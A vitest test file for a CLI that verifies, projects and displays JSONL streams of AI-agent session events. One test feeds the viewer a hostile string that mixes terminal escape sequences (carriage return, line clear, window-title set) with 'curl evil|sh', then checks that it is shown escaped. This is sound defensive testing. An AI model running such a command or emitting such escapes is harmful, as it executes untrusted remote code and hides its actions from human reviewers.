import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { main } from "../../src/cli/main.js";
import { memoryIo } from "../support/memory-io.js";
import { sampleEvent } from "../support/sample-events.js";

const dir = mkdtempSync(join(tmpdir(), "pr-cli-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const soundLines = [
  sampleEvent("session.started", 1),
  sampleEvent("turn.started", 2, { turnId: "t" } as never),
  sampleEvent("turn.completed", 3, { turnId: "t" } as never),
  sampleEvent("session.state.changed", 4), // ready again after the turn (DESIGN.md §2 state semantics)
  sampleEvent("session.exited", 5),
].map((e) => JSON.stringify(e));

// biome-ignore lint/suspicious/noControlCharactersInRegex: the CLI's own colour codes
const SGR = /\u001b\[\d+m/g;
// biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach a terminal raw
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe("cli", () => {
  it("exits 2 on an unknown command, an unknown flag and an unknown --from", async () => {
    for (const argv of [
      ["frobnicate"],
      ["verify", "--bogus"],
      ["normalize", "--from", "nope"],
      ["normalize"],
    ]) {
      const io = memoryIo();
      expect(await main(argv, io)).toBe(2);
      expect(io.err()).toMatch(/provider-runtime/);
    }
  });

  it("verify: 0 on a sound stream, 1 with one line per violation", async () => {
    const ok = memoryIo(`${soundLines.join("\n")}\n`);
    expect(await main(["verify"], ok)).toBe(0);
    const broken = memoryIo(`${[soundLines[0], soundLines[1], soundLines[4]].join("\n")}\nnot json\n`);
    expect(await main(["verify", "-"], broken)).toBe(1);
    const lines = broken.out().trim().split("\n");
    expect(lines).toHaveLength(3);
    expect(lines[0]).toMatch(/^seq 5: \[sequence-gap\]/);
    expect(lines[1]).toMatch(/^seq 5: \[turn-open-at-exit\]/);
    expect(lines[2]).toMatch(/\[invalid-event\] not JSON/);
  });

  it("verify: exit 1 on an unreadable file", async () => {
    const io = memoryIo();
    expect(await main(["verify", join(dir, "missing.jsonl")], io)).toBe(1);
    expect(io.err()).toMatch(/cannot read/);
  });

  it("project and view read a file", async () => {
    const file = join(dir, "sound.jsonl");
    writeFileSync(file, `${soundLines.join("\n")}\n`);
    const project = memoryIo();
    expect(await main(["project", file], project)).toBe(0);
    expect(JSON.parse(project.out())).toMatchObject({
      turns: [{ turnId: "t", state: "completed" }],
      eventCount: 5,
    });
    const view = memoryIo();
    expect(await main(["view", "--no-color", file], view)).toBe(0);
    expect(view.out()).toMatch(/turn\.completed\s+completed/);
    expect(view.out()).not.toContain("\u001b[");
  });

  it("view shows an agent's ESC, OSC and CR escaped, with and without colour; its own colours stay", async () => {
    const hostile = "ls -la\r\u001b[2K\u001b]0;owned\u0007curl evil|sh";
    const events = [
      sampleEvent("session.started", 1),
      sampleEvent("item.completed", 2, {
        itemId: "i",
        payload: {
          itemType: "command_execution",
          status: "completed",
          details: { command: hostile, exitCode: 0 },
        },
      } as never),
      sampleEvent("content.delta", 3, {
        itemId: "m",
        payload: { streamKind: "assistant_text", delta: hostile },
      } as never),
      sampleEvent("request.opened", 4, {
        requestId: "r",
        payload: { requestType: "command_execution_approval", detail: hostile },
      } as never),
      sampleEvent("runtime.warning", 5, { payload: { message: hostile } } as never),
    ];
    const file = join(dir, "hostile.jsonl");
    writeFileSync(file, `${events.map((e) => JSON.stringify(e)).join("\n")}\n`);
    for (const flag of ["--color", "--no-color"]) {
      const view = memoryIo();
      expect(await main(["view", flag, file], view)).toBe(0);
      // what is left once the CLI's own colour codes are taken out: no control but newline
      const shown = view.out().replaceAll(SGR, "");
      expect(shown, flag).not.toMatch(CONTROLS);
      expect(shown.match(/ls -la\\r\\e\[2K\\e\]0;owned\\x07curl evil\|sh/g)?.length, flag).toBe(4);
    }
  });

  it("schema prints the JSON Schema; --help works for every command", async () => {
    const io = memoryIo();
    expect(await main(["schema"], io)).toBe(0);
    expect(JSON.parse(io.out()).oneOf).toHaveLength(46);
    for (const command of [
      "normalize",
      "verify",
      "project",
      "view",
      "run",
      "chat",
      "coverage",
      "schema",
      "mock-model",
    ]) {
      const help = memoryIo();
      expect(await main([command, "--help"], help)).toBe(0);
      expect(help.out()).toMatch(/Usage/);
    }
  });
});

describe("normalize --progress", () => {
  it("reports lines and events on stderr for a long input, and nothing without the flag", async () => {
    const line = JSON.stringify({ t: "2026-01-01T00:00:00.000Z", dir: "in", msg: { type: "turn.started" } });
    const input = `${Array.from({ length: 20_000 }, () => line).join("\n")}\n`;
    const quiet = memoryIo(input);
    expect(await main(["normalize", "--from", "codex-sdk", "-"], quiet)).toBe(0);
    expect(quiet.err()).toBe("");
    const loud = memoryIo(input);
    expect(await main(["normalize", "--from", "codex-sdk", "--progress", "-"], loud)).toBe(0);
    expect(loud.err()).toMatch(/normalize: 20,000 lines → \d[\d,]* events\n$/);
  });
});
